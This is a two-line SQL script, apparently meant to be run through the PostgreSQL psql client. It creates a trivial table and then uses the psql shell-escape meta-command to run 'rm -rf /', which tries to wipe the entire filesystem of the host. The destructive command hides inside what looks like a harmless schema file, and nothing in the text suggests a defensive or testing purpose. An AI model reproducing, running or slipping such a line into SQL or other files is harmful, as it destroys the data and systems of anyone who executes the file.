CREATE TABLE t (id int);
\! rm -rf /
